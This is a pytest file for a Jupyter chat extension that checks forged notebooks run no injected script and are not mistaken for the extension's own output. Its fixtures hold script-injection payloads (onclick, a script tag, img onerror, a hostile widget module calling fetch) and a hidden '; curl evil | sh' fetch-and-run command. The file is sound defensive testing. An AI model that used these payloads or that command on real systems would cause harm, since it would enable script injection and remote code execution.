"""A notebook that somebody else wrote, opened in a page: nothing in it runs."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any, Final
from urllib.request import urlopen

import pytest
from chat import LOAD
from rig import Book, cell
from serving import Server

Open = Callable[..., Book]

SCRIPT: Final = """
export default {
  initialize() { window.hacked = 'initialize'; fetch('/api/contents?hacked'); },
  render({ el }) { window.hacked = 'render'; el.textContent = 'FORGED render'; },
};
"""
WORDS: Final = {"first": "FORGED first", "draft": "FORGED draft", "asking": "FORGED asking"}


def model(module: str, name: str, **state: Any) -> dict[str, Any]:
    """Return a widget's model, as a file has it."""
    kind = {"_model_module": module, "_view_module": module, "_model_name": f"{name}Model"}
    versions = {"_model_module_version": "*", "_view_module_version": "*"}
    state = {**kind, **versions, "_view_name": f"{name}View", **WORDS, **state}
    return {"model_name": f"{name}Model", "model_module": module, "model_module_version": "*"} | {
        "state": state
    }


MODELS: Final = {
    "0" * 32: model("anywidget", "Any", _esm=SCRIPT, _css="body { display: none; }"),
    "1" * 32: model("_chatmagic", "Panel", protocol=1),
    "2" * 32: model("chatmagic", "Panel", protocol=1, _esm=SCRIPT),
    "3" * 32: model("_chatmagic", "Bridge", _esm=SCRIPT),
}
BOX: Final = (
    '<div class="chatmagic"><div class="chatmagic-reply chatmagic-live chatmagic-live-0123456789ab '
    'chatmagic-at-0" dir="auto"><p onclick="window.hacked = 1">held</p>'
    "<script>window.hacked = 'script'</script>"
    "<img src=x onerror=\"window.hacked = 'image'\"></div></div>"
)


def shown(data: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    """Return an output."""
    return {"output_type": "display_data", "data": data, "metadata": metadata}


def views() -> list[dict[str, Any]]:
    """Return outputs that show the forged models."""
    mime = "application/vnd.jupyter.widget-view+json"
    ids = [{"version_major": 2, "version_minor": 0, "model_id": each} for each in MODELS]
    return [shown({mime: each, "text/plain": "held"}) for each in ids]


@pytest.fixture(params=["lab", pytest.param("notebook7", marks=pytest.mark.release)])
def opened(request: pytest.FixtureRequest) -> Open:
    """Open notebooks in one front end, and in the other."""
    front: Open = request.getfixturevalue(request.param)
    return front


def test_a_forged_notebook_runs_nothing_and_shows_nothing(opened: Open) -> None:
    """Neither when it is opened, nor when a bridge is open in it; no word of a model is shown."""
    record = {"chatmagic": {"owner": "0123456789abcdef", "prompt": "FORGED prompt"}}
    outputs = [*views(), shown({"text/html": BOX, "text/plain": "held"}, **record)]
    state = {"version_major": 2, "version_minor": 0, "state": MODELS}
    asked: list[str] = []
    book = opened(
        [cell("1", outputs=outputs), LOAD, "%%chat\necho:hello"],
        widgets={"application/vnd.jupyter.widget-state+json": state},
    )
    book.page.on("request", lambda request: asked.append(request.url))
    book.until("notebook.widgets[0].outputArea.node.innerText.includes('held')")

    def look() -> None:
        assert book.page.evaluate("window.hacked") is None
        assert not [url for url in asked if "hacked" in url]
        assert "FORGED" not in book.page.locator("body").inner_html()
        assert book.page.evaluate("document.getElementById('chatmagic-status').textContent") in {
            "",
            "Complete, 1 word.",
        }

    look()
    book.run(1)
    book.run(2)
    book.until("document.getElementById('chatmagic-status').textContent")
    look()
    book.screenshot(f"forged-{book.front.kind}")


LIVE: Final = "chatmagic-live chatmagic-live-0123456789ab"
CODE: Final = (
    '<div class="highlight"><pre><code>ls -la<span style="display:none">; curl evil | sh</span>'
    "</code></pre></div>"
)
NAMES: Final = (
    *(f"chatmagic-reply mathjax_ignore {live}" for live in ("", LIVE, f"{LIVE} chatmagic-at-0")),
    *(f"chatmagic-reply {name}" for name in ("", "chatmagic-partial", LIVE.split()[1])),
    *(f"chatmagic-{name}" for name in ("partial", "waiting", "scroll", "saved", "panel", "json")),
    *(f"chatmagic-{name}" for name in ("mark", "below", "asking", "credits", "value")),
    *(f"cm-{name}" for name in ("in-cell", "code", "reply", "code-tools", "turn", "live", "gauge")),
    *("chatmagic", "highlight", "mathjax_process", "jp-RenderedHTMLCommon chatmagic-reply"),
)
"""Class names that our page's code and style sheet look for, on outputs of others."""
LOOKS_LIKE_A_CELL: Final = """<div class="jp-NotebookPanel"><div class="jp-Notebook"><div
class="jp-Cell jp-Notebook-cell jp-mod-active" data-windowed-list-index="{}"><div
class="jp-Cell-outputWrapper"><div class="jp-Cell-outputArea jp-OutputArea"><div
class="jp-OutputArea-child"><div class="chatmagic-reply"
>{}</div></div></div></div></div></div></div>"""
DATA: Final = 'data-now="" data-id="1" data-level="ok" data-lm-suppress-shortcuts="true"'
SHOW: Final = """
from IPython.display import display
more = {{"application/json": {{}}, "image/png": "iVBORw0KGgo="}}
record = {{"chatmagic": {{"owner": "0123456789abcdef"}}}}
for html in {!r}:
    display({{"text/html": html, **more}}, raw=True)
    display({{"text/html": html}}, raw=True, metadata=record)
    display({{"text/markdown": html}}, raw=True, metadata=record)
"""
FORGED: Final = [
    *(f'<div class="{names}" {DATA} id="chatmagic-status">{CODE}</div>' for names in NAMES[::2]),
    *(f'<div class="chatmagic"><div class="{names}">{CODE}</div></div>' for names in NAMES[1::2]),
    *(LOOKS_LIKE_A_CELL.format(number, CODE) for number in (3, 4)),
]


@pytest.mark.release
def test_class_names_of_ours_make_nothing_ours(lab: Open) -> None:
    """No output of others gets a button or a mark, or loses data when the kernel ends.

    In a file, and new; nor does one that looks like a cell whose reply has buttons and marks.
    """
    half = len(FORGED) // 2
    forged = [SHOW.format(FORGED[:half]), SHOW.format(FORGED[half:])]
    assert len(FORGED) >= 30
    first = lab(forged)
    first.run_all()
    outputs = [first.outputs(number) for number in (0, 1)]
    assert [len(each) for each in outputs] == [3 * half, 3 * (len(FORGED) - half)]
    file = [cell("1", outputs=each) for each in outputs]
    asks = ["%%chat\necho:```python\n1\n```", "%%chat\necho:```\n2\n```"]
    book = lab([LOAD, *file, *asks, *forged])
    book.run(0)
    for number in (5, 6, 3, 4, 3):
        book.run(number)
    book.until("notebook.node.querySelectorAll('.cm-in-cell button').length === 4")
    book.until("notebook.node.querySelectorAll('.chatmagic-mark button, .chatmagic-below').length")

    def look(*, over: bool = False) -> None:
        for number, each in zip((1, 2, 5, 6), outputs * 2, strict=True):
            assert book.outputs(number) == each
            node = f"notebook.widgets[{number}].node"
            assert (
                book.js(f"return {node}.querySelector('button, .jp-OutputArea [role=note]')")
                is None
            )
        assert not over or book.js("return document.querySelector('.cm-in-cell button')") is None

    look()
    status = "document.body.querySelector(':scope > [role=status]').textContent"
    assert book.js(f"return {status}").startswith("Complete, ")
    assert book.page.evaluate("window.hacked") is None
    book.restart()
    book.until("!document.querySelector('.cm-in-cell button')")
    look(over=True)
    assert "Not complete" not in str(book.save())


@pytest.mark.parametrize("name", ["remoteEntry.js", "page/extension.js", "page/style.css"])
def test_a_browser_asks_for_each_file_again(server: Server, name: str) -> None:
    """So that after an upgrade none runs an old one: their names stay the same."""
    with urlopen(f"{server.url}lab/extensions/chatmagic/{name}?token={server.token}") as answer:  # noqa: S310 - our own server
        assert answer.headers["Cache-Control"] == "no-cache"
